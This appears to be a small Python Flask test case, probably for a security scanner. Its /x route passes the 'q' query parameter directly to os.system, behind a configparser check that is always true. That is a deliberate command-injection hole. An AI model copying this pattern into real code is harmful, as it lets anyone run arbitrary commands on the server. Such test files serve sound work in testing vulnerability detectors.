import configparser
import os
from flask import request, Flask

app = Flask(__name__)


@app.route("/x")
def x():
    c = configparser.ConfigParser()
    c.read_string("[a]\nhome=x\nflag=%(home)s")
    if c.get("a", "flag") == "x":
        os.system(request.args["q"])
    return ""
